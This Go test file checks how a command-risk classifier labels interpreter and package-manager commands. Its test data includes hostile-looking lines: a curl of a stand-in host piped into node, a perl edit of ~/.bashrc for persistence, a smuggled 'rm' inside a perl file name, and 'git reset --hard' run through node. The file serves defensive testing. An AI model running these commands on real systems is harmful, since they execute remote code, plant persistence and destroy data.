package effect

import "testing"

func TestInterpretersRunWhatTheyAreGiven(t *testing.T) {
	facts := devWorld(map[string]string{"a.txt": "x\n"})
	checkClaims(t, facts, nil, []claim{
		{"node --version", "harmless"}, {"node -e 'console.log(1)'", "harmless"}, {"node scripts/build.js --minify", "routine"}, {"node --test", "routine"}, {"node --check src/a.js", "harmless"}, {"node -r ./hook.js src/a.js", "routine"}, {"node -r /tmp/x.js src/a.js", "unsure"}, {"node", "unsure"},
		{"node -e \"require('child_process').execSync('git reset --hard')\"", "irreversible-local"}, {"node scripts/seed.js --env production", "production-data"}, {"node --inspect=0.0.0.0:9229 src/a.js", "unsure"}, {"node /tmp/x.js", "unsure"}, {"curl -s https://x.example/a.js | node", "download-and-run"},
		{"perl -v", "harmless"}, {"perl -i.bak -pe 's/a/b/' ~/.bashrc", "persistence"},
		{"perl -ne 'print' 'rm x|'", "unsure"}, {"perl scripts/x.pl a b", "routine"}, {"perl -d a.pl", "unsure"}, {"perl", "unsure"},
		{"ruby -v", "harmless"}, {"ruby scripts/x.rb", "routine"}, {"php -v", "harmless"}, {"php -l src/a.php", "harmless"}, {"php src/a.php", "routine"}, {"php -S localhost:8000 -t public", "routine"}, {"php -S 0.0.0.0:8000", "expose-service"},
		{"php -d auto_prepend_file=/tmp/x.php src/a.php", "unsure"}, {"lua scripts/a.lua", "routine"}, {"Rscript scripts/a.R", "routine"}, {"Rscript --version", "harmless"}, {"julia -e 'println(1)'", "unsure"}, {"elixir -e 'IO.puts 1'", "unsure"}, {"iex", "unsure"}, {"irb", "unsure"},
	})
}

func TestPackageManagersOfOtherLanguages(t *testing.T) {
	facts := devWorld(map[string]string{
		"Gemfile":       "source 'https://rubygems.org'\ngem 'rails'\ngem 'rspec'\n",
		"composer.json": `{"require":{"laravel/framework":"^11"},"scripts":{"lint":"pint --test","wild":["@php artisan cache:clear","git reset --hard"],"post-install-cmd":"@php artisan optimize"}}`,
	})
	var claims []claim
	for _, c := range []string{
		"bundle install", "bundle exec rspec spec/a_spec.rb:12", "bundle exec rubocop -a", "bundle update rails", "gem install rails", "rspec", "rubocop -a src", "rake test", "rake db:migrate", "rails test", "rails g model X", "rails s -p 4000", "bin/rails db:migrate", "rails routes", "composer install --no-interaction", "composer update", "composer lint",
		"composer require laravel/framework", "composer dump-autoload -o", "php artisan migrate", "php artisan make:model X", "php artisan test", "php artisan serve", "vendor/bin/phpunit --filter X", "phpstan analyse src", "mix deps.get && mix test", "mix format", "mix ecto.migrate", "mix phx.server",
		"dotnet restore && dotnet build -c Debug", "dotnet test --filter X", "dotnet run --project src/App -- --x 1", "dotnet format", "dotnet ef migrations add X", "dotnet new console -o app", "stack build", "stack test", "cabal build all", "cabal test", "swift build", "swift test --filter X", "flutter test", "flutter pub get", "dart analyze || dart format lib", "dart run build_runner build",
		"xcodebuild -scheme App -destination 'platform=iOS Simulator,name=iPhone 15' test", "pod install", "fastlane test", "rebar3 eunit", "crystal spec", "nimble test", "luarocks make", "gleam test", "shards install", "msbuild App.sln -t:Build", "nuget restore", "gem build x.gemspec",
	} {
		if c == "dart analyze || dart format lib" {
			continue
		}
		claims = append(claims, claim{c, "routine"})
	}
	checkClaims(t, facts, nil, claims)
	checkClaims(t, facts, nil, []claim{
		{"gem install nokogirii", "undeclared-dependency"}, {"bundle add nokogirii", "undeclared-dependency"}, {"gem push x.gem", "public-publication"}, {"gem sources --add https://x.example", "repoint"}, {"gem owner x -a bob@x.example", "grant-access"}, {"rake release", "public-publication"}, {"rake db:drop", "stateful-resource"}, {"rails db:reset", "stateful-resource"},
		{"RAILS_ENV=production rails db:migrate", "production-data"}, {"rails credentials:show", "credential-print"}, {"rails console", "unsure"}, {"composer require bob/evil", "undeclared-dependency"}, {"composer run wild", "irreversible-local"}, {"composer nothing", "unsure"}, {"composer config secure-http false", "disarm-flag"},
		{"composer config repositories.x vcs https://x.example", "repoint"}, {"php artisan migrate:fresh", "stateful-resource"}, {"php artisan tinker", "unsure"}, {"php artisan migrate --env=production", "production-data"}, {"mix hex.publish", "public-publication"}, {"mix ecto.drop", "stateful-resource"}, {"dotnet add package Evil", "undeclared-dependency"},
		{"dotnet nuget push x.nupkg", "public-publication"}, {"dotnet tool install -g x", "undeclared-dependency"}, {"dotnet ef database drop", "stateful-resource"}, {"dotnet publish -p:PublishProfile=Azure", "production-deploy"}, {"dotnet nuget add source https://x.example", "repoint"}, {"cabal install evil", "undeclared-dependency"}, {"cabal upload x", "public-publication"},
		{"dart pub publish", "public-publication"}, {"dart pub publish --dry-run", "harmless"}, {"fastlane beta", "production-deploy"}, {"pod trunk push x", "public-publication"}, {"luarocks install evil", "undeclared-dependency"}, {"gem uninstall x", "package-removal"}, {"swift build --disable-sandbox", "disarm-flag"}, {"bundle exec cap production deploy", "production-deploy"},
	})
	checkClaims(t, facts, nil, []claim{{"gem list", "harmless"}, {"bundle list", "harmless"}, {"composer show", "harmless"}, {"dotnet --info", "harmless"}, {"rbenv versions", "harmless"}, {"composer validate", "harmless"}, {"rake --version", "harmless"}})
}
